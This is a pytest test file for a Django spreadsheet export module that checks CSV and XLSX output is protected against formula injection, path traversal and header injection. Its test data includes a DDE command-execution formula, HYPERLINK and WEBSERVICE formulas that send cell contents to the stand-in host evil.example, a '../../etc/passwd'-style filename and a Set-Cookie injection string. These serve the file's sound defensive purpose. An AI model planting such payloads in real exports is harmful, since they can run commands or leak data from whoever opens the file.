import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from time import perf_counter
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from wagtail_network.core.spreadsheets import csv_response, looks_like_formula, xlsx_response

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Se her")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\tord",
    "\rord",
    "  =1+1",
    "\n=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    " ＝1+1",
    '";=1+1',
    "+45 12 34 56 78",
    "-",
    "#REF!",
    "#N/A",
]
HARMLESS = ["", "Ærø", "1-1", "a=b", "'=1+1", "2026-11-21", "12", "§", "«citat»", " "]


def csv_rows(*rows: Any, language: str = "da", **how: Any) -> list[list[str]]:
    with override(language):
        content = csv_response("Liste", ["A", "B"], rows, **how).content
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]


def sheet_of(*rows: Any, headings: Any = ("A", "B"), name: str = "Liste", **how: Any) -> Any:
    content = xlsx_response(name, headings, rows, **how).content
    return load_workbook(io.BytesIO(content)).active


def cell_of(value: Any, **how: Any) -> Any:
    return sheet_of([value], **how)["A2"]


@pytest.mark.parametrize("text", [text for text in FORMULAS if text[0] not in '"#'])
def test_a_formula_is_a_text_with_an_apostrophe_in_csv(text: str) -> None:
    [[shown]] = csv_rows([text])
    assert shown[0] == "'"
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text: str) -> None:
    assert csv_rows([text, "x"]) == [[text, "x"]]
    assert not looks_like_formula(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_plain_string_in_xlsx(text: str) -> None:
    cell = cell_of(text)
    assert cell.data_type == "s"
    assert cell.value.strip("\n\t ") == text.strip("\x00\x0b\r\n\t ")
    assert bool(cell.quotePrefix) is looks_like_formula(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_heading_is_guarded_as_well(text: str) -> None:
    assert sheet_of(headings=[text])["A1"].data_type == "s"
    with override("da"):
        content = csv_response("Liste", [text], []).content.decode("utf-8-sig")
    assert looks_like_formula(text) is (content.lstrip('"')[0] == "'")


def test_no_text_breaks_out_of_its_cell() -> None:
    row = ['a;"b', 'c\n"=1+1";x', "d,e\r\nf"]
    assert csv_rows(row) == [['a;"b', 'c\n"=1+1";x', "d,e\nf"]]


def test_the_file_opens_in_excel_where_the_decimal_sign_is_a_comma() -> None:
    with override("da"):
        content = csv_response("Liste", ["Navn", "Antal"], [["Søren", 1.5]]).content
    assert content == "\ufeffNavn;Antal\r\nSøren;1,5\r\n".encode()


def test_the_file_opens_in_excel_where_the_decimal_sign_is_a_point() -> None:
    with override("en"):
        content = csv_response("List", ["Name", "Number"], [["Søren", 1.5]]).content
    assert content == "\ufeffName,Number\r\nSøren,1.5\r\n".encode()


COPENHAGEN = ZoneInfo("Europe/Copenhagen")
INSTANT = datetime(2026, 11, 21, 12, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "in_csv", "in_xlsx"),
    [
        (None, "", None),
        (True, "Ja", "Ja"),
        (False, "Nej", "Nej"),
        (0, "0", 0),
        (-5, "-5", -5),
        (-1.25, "-1,25", -1.25),
        (Decimal("-10.50"), "-10,50", -10.5),
        (Decimal("NaN"), "NaN", "NaN"),
        (float("nan"), "nan", "nan"),
        (float("-inf"), "'-inf", "-inf"),
        (10**18 + 1, "1000000000000000001", "1000000000000000001"),
        (date(2026, 11, 21), "2026-11-21", datetime(2026, 11, 21)),
        (date(1, 1, 1), "0001-01-01", "0001-01-01"),
        (time(9, 5), "09:05", time(9, 5)),
        (INSTANT, "2026-11-21 13:30", datetime(2026, 11, 21, 13, 30)),
        (datetime(2026, 11, 21, 12, 30), "2026-11-21 12:30", datetime(2026, 11, 21, 12, 30)),
        (timedelta(hours=1), "1:00:00", "1:00:00"),
        (gettext_lazy("Yes"), "Ja", "Ja"),
        (["a", "b"], "['a', 'b']", "['a', 'b']"),
    ],
)
def test_numbers_and_dates_are_written_as_such(value: Any, in_csv: str, in_xlsx: Any) -> None:
    with override("da"):
        assert csv_rows([value, ""]) == [[in_csv, ""]]
        cell = cell_of(value)
    assert cell.value == in_xlsx
    assert cell.is_date == isinstance(in_xlsx, datetime | time)


def test_instants_are_told_in_the_zone_that_is_asked_for() -> None:
    nuuk = ZoneInfo("America/Nuuk")
    assert csv_rows([INSTANT, ""], zone=nuuk) == [["2026-11-21 10:30", ""]]
    assert cell_of(INSTANT, zone=nuuk).value == datetime(2026, 11, 21, 10, 30)


def test_control_characters_are_removed_and_lines_kept() -> None:
    text = "".join(map(chr, range(32))) + "Å\n\x7f\x85\ud800\udfff\ufffe\uffff🏗"
    assert csv_rows(["x" + text, ""]) == [["x\t\n\rÅ\n🏗", ""]]
    assert cell_of("x" + text).value == "x\t\n\nÅ\n🏗"


@pytest.mark.parametrize("letter", ["x", "æ", "🏗"])
def test_a_text_longer_than_a_cell_is_cut_and_says_so(letter: str) -> None:
    units = len(letter.encode("utf-16-le")) // 2
    fits = letter * (32_767 // units)
    assert cell_of(fits).value == fits
    with override("da"):
        for cut in (cell_of(fits + letter).value, csv_rows([fits + letter, ""])[0][0]):
            assert len(cut.encode("utf-16-le")) <= 2 * 32_767
            assert cut.startswith(letter * 10_000)
            assert cut.endswith(")")


def test_the_headings_stay_in_sight_and_stand_out() -> None:
    sheet = sheet_of(["Mette Holm fra Køge", 1], headings=["Navn", "Nr."])
    assert sheet.freeze_panes == "A2"
    assert [cell.font.bold for cell in sheet[1]] == [True, True]
    assert [cell.font.bold for cell in sheet[2]] == [False, False]
    assert sheet.column_dimensions["A"].width == 21
    assert sheet.column_dimensions["B"].width == 8


def test_a_column_is_not_wider_than_a_screen() -> None:
    assert sheet_of(["x" * 5000, 1]).column_dimensions["A"].width == 60


def test_a_table_without_rows_has_its_headings() -> None:
    assert [cell.value for cell in sheet_of()[1]] == ["A", "B"]
    assert csv_rows() == []


def test_a_row_may_be_shorter_or_longer_than_the_headings() -> None:
    sheet = sheet_of(["x"], ["x", "y", "z"])
    assert [cell.value for cell in sheet[3]] == ["x", "y", "z"]


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("Deltagere", 'attachment; filename="Deltagere.csv"'),
        ("Møde på Ærø", "attachment; filename*=utf-8''M%C3%B8de%20p%C3%A5%20%C3%86r%C3%B8.csv"),
        ('../../etc/"passwd"', 'attachment; filename="etc passwd.csv"'),
        ("a\r\nSet-Cookie: x=1", 'attachment; filename="a Set-Cookie x=1.csv"'),
        ("liste\u202evsc.exe", 'attachment; filename="listevsc.exe.csv"'),
        ("", 'attachment; filename="table.csv"'),
        ("...", 'attachment; filename="table.csv"'),
        ("x" * 300, f'attachment; filename="{"x" * 100}.csv"'),
    ],
)
def test_the_file_has_a_safe_name(name: str, header: str) -> None:
    assert csv_response(name, [], [])["Content-Disposition"] == header
    xlsx = xlsx_response(name, ["A"], [])
    assert xlsx["Content-Disposition"] == header.replace(".csv", ".xlsx")


@pytest.mark.parametrize("name", ["", "[Møde]: 1/2?*", "'citat'", "x" * 50, "historik"])
def test_any_name_gives_a_sheet_that_opens(name: str) -> None:
    title = sheet_of(name=name).title
    assert 0 < len(title) <= 31
    assert not set(title) & set("[]:*?/\\")


@pytest.mark.parametrize("response", [csv_response, xlsx_response])
def test_nobody_keeps_the_file(response: Any) -> None:
    answer = response("Liste", ["A"], [])
    assert set(answer["Cache-Control"].split(", ")) == {"private", "no-store"}
    assert answer["Content-Type"].startswith(("text/csv; charset=utf-8", "application/vnd.openxml"))


def test_the_file_is_well_formed_whatever_is_in_it() -> None:
    content = xlsx_response("Liste", FORMULAS, [FORMULAS, HARMLESS]).content
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
        assert book.testzip() is None


def test_ten_thousand_rows_are_read_once_and_take_seconds_at_most() -> None:
    def rows() -> Iterator[list[Any]]:
        for number in range(10_000):
            yield [number, f"Person {number}", "navn@example.org", "NærHeden", INSTANT, True]

    for response in (csv_response, xlsx_response):
        began = perf_counter()
        assert len(response("Liste", list("ABCDEF"), rows()).content) > 100_000
        assert perf_counter() - began < 15
